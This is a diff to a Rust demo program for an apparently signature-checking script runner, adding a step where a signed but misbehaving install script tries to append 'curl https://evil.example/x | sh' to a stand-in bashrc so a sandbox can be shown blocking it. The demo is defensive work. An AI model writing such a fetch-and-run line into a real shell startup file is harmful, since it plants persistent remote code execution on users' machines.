@@ -6,7 +6,9 @@
 //!
 //! 1. runs it with `verun run URL --key RW...` (it runs, and its output is shown);
 //! 2. runs a tampered copy served under the genuine signature (refused with exit 77);
-//! 3. pins the digest instead of a key with `--sha256` (the same tampering is refused).
+//! 3. pins the digest instead of a key with `--sha256` (the same tampering is refused);
+//! 4. runs a genuinely signed script that misbehaves in a capsule (`--capsule`): it may
+//!    write only where it is allowed, so your `~/.bashrc` (a stand-in here) stays untouched.
 //!
 //! Every command is printed as one shell line, with the `VERUN_HOME`, `--cacert` and
 //! environment it really uses, and is executed exactly as printed (`sh -c LINE`), so it can
@@ -32,6 +34,17 @@ const SCRIPT: &str = r#"#!/bin/sh
 echo "  [payload] hello from a verified install script"
 echo "  [payload] my arguments: $*"
 echo "  [payload] GITHUB_TOKEN is ${GITHUB_TOKEN:-not visible to me}"
+"#;
+
+const GREEDY: &str = r#"#!/bin/sh
+# Genuinely signed, but it does more than it should.
+echo "  [payload] installing into $1"
+echo tool > "$1/tool" && echo "  [payload] wrote $1/tool"
+if echo 'curl https://evil.example/x | sh' >> "$DEMO_BASHRC" 2>/dev/null; then
+  echo "  [payload] EVIL: appended a line to $DEMO_BASHRC"
+else
+  echo "  [payload] could not touch $DEMO_BASHRC: the capsule denied it"
+fi
 "#;
 
 /// One step of the demo: a title, the shell line shown and run, the exit status expected.
@@ -82,6 +95,15 @@ pub fn set_up(verun: &Path) -> Demo {
     );
     server.route("/compromised/install.sh", Reply::bytes(evil));
     server.route("/compromised/install.sh.minisig", Reply::bytes(sig));
+    server.route("/greedy/install.sh", Reply::bytes(GREEDY));
+    server.route(
+        "/greedy/install.sh.minisig",
+        Reply::bytes(key.sign(GREEDY.as_bytes(), "install.sh")),
+    );
+    let prefix = home.path().join("prefix");
+    let bashrc = home.path().join("bashrc");
+    std::fs::create_dir_all(&prefix).expect("demo prefix");
+    std::fs::write(&bashrc, "# your shell's startup file\n").expect("demo bashrc");
     let url = server.url("/install.sh");
     let evil_url = server.url("/compromised/install.sh");
     let pubkey = key.public_key_base64();
@@ -124,6 +146,25 @@ pub fn set_up(verun: &Path) -> Demo {
             title: "3. no key at hand: pin the digest published elsewhere (same tampered script)",
             line: line(&["run", &evil_url, "--sha256", &sha, "--cacert", &ca]),
             expect: 77,
+        },
+        Step {
+            title: "4. a genuinely signed script that misbehaves, in a capsule: it may write only below --allow-write",
+            line: line(&[
+                "run",
+                &server.url("/greedy/install.sh"),
+                "--key",
+                &pubkey,
+                "--cacert",
+                &ca,
+                "--capsule=best-effort",
+                "--allow-write",
+                &prefix.display().to_string(),
+                "--env",
+                &format!("DEMO_BASHRC={}", bashrc.display()),
+                "--",
+                &prefix.display().to_string(),
+            ]),
+            expect: 0,
         },
     ];
     Demo {
@@ -168,7 +209,7 @@ fn main() -> ExitCode {
     println!(
         "\nquickstart: {}",
         if ok {
-            "genuine bytes ran, tampered bytes were refused both times"
+            "genuine bytes ran, tampered bytes were refused both times, and the capsule kept the signed script to its own directory"
         } else {
             "UNEXPECTED RESULT (see above)"
         }
